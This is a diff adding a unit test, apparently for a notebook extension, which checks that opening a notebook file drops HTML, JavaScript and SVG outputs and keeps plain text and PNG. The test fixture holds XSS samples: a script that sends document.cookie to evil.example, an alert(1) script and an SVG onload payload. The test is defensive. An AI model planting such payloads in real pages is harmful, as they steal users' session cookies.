@@ -86,3 +86,32 @@ test('export as script: one file per language, cells as %% markers that split ba
   const md = files[2].text.split('\n');
   assert.deepEqual(runnableBlocks(md).map((b) => [b.what.kind, b.text]), [['prompt', 'Summarise the page']]);
 });
+
+test('fcnb: opening keeps only the output types the extension writes; others are dropped with a note', () => {
+  const file = {
+    format: 'firecrawl-interact-notebook',
+    version: 1,
+    cells: [
+      {
+        kind: 'code',
+        language: 'javascript',
+        source: ['1'],
+        outputs: [
+          { items: [{ mime: 'text/html', text: ['<script>fetch("https://evil.example/?" + document.cookie)</script>'] }] },
+          { items: [{ mime: 'application/javascript', text: ['alert(1)'] }, { mime: 'text/plain', text: ['kept'] }] },
+          { items: [{ mime: 'image/svg+xml', text: ['<svg onload="alert(1)"/>'] }, { mime: 'image/png', base64: PNG.toString('base64') }] },
+        ],
+      },
+    ],
+  };
+  const notes: string[] = [];
+  const back = parseNotebook(JSON.stringify(file), (n) => notes.push(n));
+  assert.deepEqual(
+    back.cells[0].outputs.map((o) => o.items.map((i) => i.mime)),
+    [['text/plain'], ['image/png']],
+    'the text/html output is gone, and the other unknown items with it',
+  );
+  assert.doesNotMatch(JSON.stringify(back.cells[0].outputs.map((o) => o.items.map((i) => Buffer.from(i.data).toString()))), /script|alert/);
+  assert.equal(notes.length, 3);
+  assert.match(notes[0], /cell 1: an output of type "text\/html" was left out/);
+});
